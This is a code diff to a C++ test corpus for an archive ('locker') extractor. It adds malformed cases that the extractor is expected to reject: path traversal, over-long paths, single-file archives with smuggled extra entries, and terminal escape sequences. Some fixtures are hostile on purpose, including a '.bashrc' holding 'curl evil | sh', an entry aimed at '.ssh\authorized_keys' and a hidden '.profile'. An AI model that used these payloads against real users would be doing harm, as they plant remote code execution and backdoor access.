@@ -173,6 +173,9 @@ QList<TCorpusCase> BuildLockerCorpus() {
     const QString BadRoot = QStringLiteral("The locker holds an invalid name for the item it contains.");
     const QString Outside = QStringLiteral("The locker holds a path that would lead outside the destination folder.");
     const QString BadSize = QStringLiteral("Invalid entry size in locker.");
+    const QString SingleFileOnly =
+        QStringLiteral("A locker of a single file must hold exactly that file, under its own name.");
+    const QString TooLong = QStringLiteral("The locker holds a name or path that is too long or too deeply nested.");
 
     QList<TCorpusCase> Cases;
     auto Add = [&](const QString& Name, const QByteArray& Bytes, const QString& ExtractMessage,
@@ -372,8 +375,8 @@ QList<TCorpusCase> BuildLockerCorpus() {
 
         P = ValidFolder();
         P.Entries[2].Size = -1;
-        Expect(Add(QStringLiteral("entry_size_negative"), Locker(P), BadSize, Ok, true),
-               {QStringLiteral("box"), QStringLiteral("box/docs"), QStringLiteral("box/docs/a.txt")});
+        // A failed extraction leaves nothing, not even the entries before the damage.
+        Expect(Add(QStringLiteral("entry_size_negative"), Locker(P), BadSize, Ok, true), {});
         P = ValidFolder();
         P.Entries[2].Size = std::numeric_limits<int64_t>::min();
         Add(QStringLiteral("entry_size_most_negative"), Locker(P), BadSize, Ok, true);
@@ -422,7 +425,8 @@ QList<TCorpusCase> BuildLockerCorpus() {
             Add(QStringLiteral("traversal_%1").arg(QLatin1String(R.Name)), Locker(FolderWithPath(R.Path)), Outside, Ok,
                 true);
         Add(QStringLiteral("traversal_single_file_inner_dotdot"),
-            Locker(SingleFile(QStringLiteral("note.txt"), QStringLiteral("x\\..\\..\\note.txt"))), Outside, Ok, true);
+            Locker(SingleFile(QStringLiteral("note.txt"), QStringLiteral("x\\..\\..\\note.txt"))), Outside,
+            SingleFileOnly, true);
 
         // Cleaned into harmless places below the destination.
         const struct {
@@ -440,13 +444,64 @@ QList<TCorpusCase> BuildLockerCorpus() {
             Expect(Add(QStringLiteral("traversal_cleaned_%1").arg(QLatin1String(C.Name)),
                        Locker(FolderWithPath(C.Path)), Extracted, Ok, true),
                    C.Expected);
+        // A single file's locker holds that file under its own name and nothing else.
         Expect(Add(QStringLiteral("traversal_single_file_dotdot"),
-                   Locker(SingleFile(QStringLiteral("note.txt"), QStringLiteral(".."))), Extracted, Ok, true),
-               {QStringLiteral("note.txt")});
-        Expect(Add(QStringLiteral("traversal_single_file_parent_prefix"),
-                   Locker(SingleFile(QStringLiteral("note.txt"), QStringLiteral("..\\..\\other.txt"))), Extracted, Ok,
+                   Locker(SingleFile(QStringLiteral("note.txt"), QStringLiteral(".."))), SingleFileOnly, SingleFileOnly,
                    true),
-               {QStringLiteral("other.txt")});
+               {});
+        Expect(Add(QStringLiteral("traversal_single_file_parent_prefix"),
+                   Locker(SingleFile(QStringLiteral("note.txt"), QStringLiteral("..\\..\\other.txt"))), SingleFileOnly,
+                   SingleFileOnly, true),
+               {});
+    }
+
+    // A single file's locker that carries more than that file, or the file under another name.
+    {
+        TCorpusPayload P = SingleFile(QStringLiteral("note.txt"), QStringLiteral("note.txt"));
+        P.Entries.append(CorpusFile(QStringLiteral(".bashrc"), "curl evil | sh"));
+        Expect(Add(QStringLiteral("single_file_extra_entry"), Locker(P), SingleFileOnly, SingleFileOnly, true), {});
+        P = SingleFile(QStringLiteral("note.txt"), QStringLiteral(".ssh\\authorized_keys"));
+        Expect(Add(QStringLiteral("single_file_other_name"), Locker(P), SingleFileOnly, SingleFileOnly, true), {});
+        P = SingleFile(QStringLiteral("note.txt"), QStringLiteral("note.txt"));
+        P.Entries[0].IsDir = true;
+        P.Entries[0].Size = 0;
+        P.Entries[0].Data.clear();
+        Expect(Add(QStringLiteral("single_file_as_folder"), Locker(P), SingleFileOnly, SingleFileOnly, true), {});
+        P = SingleFile(QStringLiteral("note.txt"), QStringLiteral("note.txt"));
+        P.Entries.append(CorpusFile(QStringLiteral(".profile"), "hidden after the count"));
+        P.OverrideCount = true;
+        P.Count = 1;
+        Expect(Add(QStringLiteral("single_file_trailing_entry"), Locker(P), SingleFileOnly, SingleFileOnly, true), {});
+    }
+
+    // Names and paths beyond the bounds the reader accepts, and one right at them.
+    {
+        QStringList Deep;
+        for (int I = 0; I <= LockerFormat::MaxPathDepth; ++I)
+            Deep << QStringLiteral("d");
+        Expect(Add(QStringLiteral("path_too_deep"), Locker(FolderWithPath(Deep.join('\\'))), TooLong, Ok, true), {});
+        Deep.removeLast();
+        QStringList DeepPaths{QStringLiteral("box")};
+        QString Prefix = QStringLiteral("box");
+        for (int I = 0; I < Deep.size(); ++I) {
+            Prefix += QStringLiteral("/d");
+            DeepPaths << Prefix;
+        }
+        Expect(Add(QStringLiteral("path_at_depth_bound"), Locker(FolderWithPath(Deep.join('\\'))), Extracted, Ok, true),
+               DeepPaths);
+        const QString LongName(LockerFormat::MaxNameBytes + 1, QLatin1Char('n'));
+        Expect(Add(QStringLiteral("path_component_too_long"), Locker(FolderWithPath(LongName)), TooLong, Ok, true), {});
+        QStringList Long;
+        for (int I = 0; I < 20; ++I)
+            Long << QString(250, QLatin1Char('p'));
+        Expect(Add(QStringLiteral("path_too_long"), Locker(FolderWithPath(Long.join('\\'))), TooLong, Ok, true), {});
+        TCorpusPayload P = ValidFolder();
+        P.RootName = LongName;
+        Add(QStringLiteral("root_name_too_long"), Locker(P), TooLong, TooLong, true);
+        // Terminal control sequences in a name are refused and never shown as they are.
+        P = ValidFolder();
+        P.RootName = QStringLiteral("a/\x1b]0;owned\x07");
+        Add(QStringLiteral("root_name_escape_sequence"), Locker(P), BadRoot, BadRoot);
     }
 
     // Entries that collide with each other.
